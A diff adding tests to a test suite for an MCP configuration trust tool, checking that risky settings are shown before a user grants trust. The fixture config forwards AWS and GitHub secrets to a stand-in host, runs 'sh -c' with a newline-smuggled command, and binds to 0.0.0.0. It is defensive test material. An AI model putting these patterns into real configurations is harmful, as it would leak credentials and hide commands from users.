@@ -84,6 +84,27 @@ def test_the_variables_are_shown_with_the_values_that_change_what_runs(clone: Sh
     assert "canary" not in shown
 
 
+def test_what_the_file_would_send_run_or_listen_at_is_shown(clone: Shell) -> None:
+    clone.write(
+        str(clone.cwd / "wicket.toml"),
+        'allow_runtime_servers = true\nstore = "postgresql://elsewhere.example/state"\n'
+        '[http]\nhost = "0.0.0.0"\n[oauth]\nbrowser = "./evil"\n[trace]\nendpoint = "http://elsewhere.example:4318"\n'
+        '[servers.s]\nurl = "https://elsewhere.example/mcp"\n'
+        'headers = { X-Key = "${env:AWS_SECRET}", X-Plain = "canary" }\n'
+        '[servers.t]\ncommand = "sh"\nargs = ["-c", "evil\\n  good: ls"]\nenv = { TOKEN = "${GH_TOKEN}" }\n'
+        'inherit_env = ["KUBECONFIG"]\n',
+    )
+    shown = " ".join(clone.type("tools", answers=[("Do you trust it?", "n\r")]).out.split())
+    for words in (
+        "s: https://elsewhere.example/mcp (headers X-Key: ${env:AWS_SECRET}, X-Plain)",
+        "t: sh -c evil good: ls (env TOKEN=${GH_TOKEN}, KUBECONFIG)",
+        "oauth.browser = ./evil store = postgresql://elsewhere.example/state",
+        "trace.endpoint = http://elsewhere.example:4318 http.host = 0.0.0.0 allow_runtime_servers = true",
+    ):
+        assert words in shown
+    assert "canary" not in shown
+
+
 def test_a_yes_is_to_what_was_shown(clone: Shell) -> None:
     file = clone.cwd / ".mcp.json"
 
@@ -126,6 +147,12 @@ def test_client_and_agent_are_told_and_a_yes_counts_at_once(clone: Shell) -> Non
         assert "wicket trust" in talk.ask("initialize", CLIENT)["instructions"]
         (answer,) = talk.ask("tools/call", {"name": "find_tools", "arguments": {"query": "echo"}})["content"]
         assert f"wicket trust {clone.cwd / '.mcp.json'}" in answer["text"]
+        for tool, arguments in (
+            ("call_tool", {"name": "echo.echo", "arguments": {"message": "hi"}}),
+            ("run_script", {"code": "return await echo.echo(message='hi')"}),
+            ("describe_tools", {"names": ["echo.echo"]}),
+        ):
+            assert "wicket trust" in str(talk.ask("tools/call", {"name": tool, "arguments": arguments})), tool
         clone.run("trust")
         talk.wait_for_log(b"the configuration was reloaded: 1 server,")
         found = talk.ask("tools/call", {"name": "find_tools", "arguments": {"query": "echo"}})["content"][0]["text"]
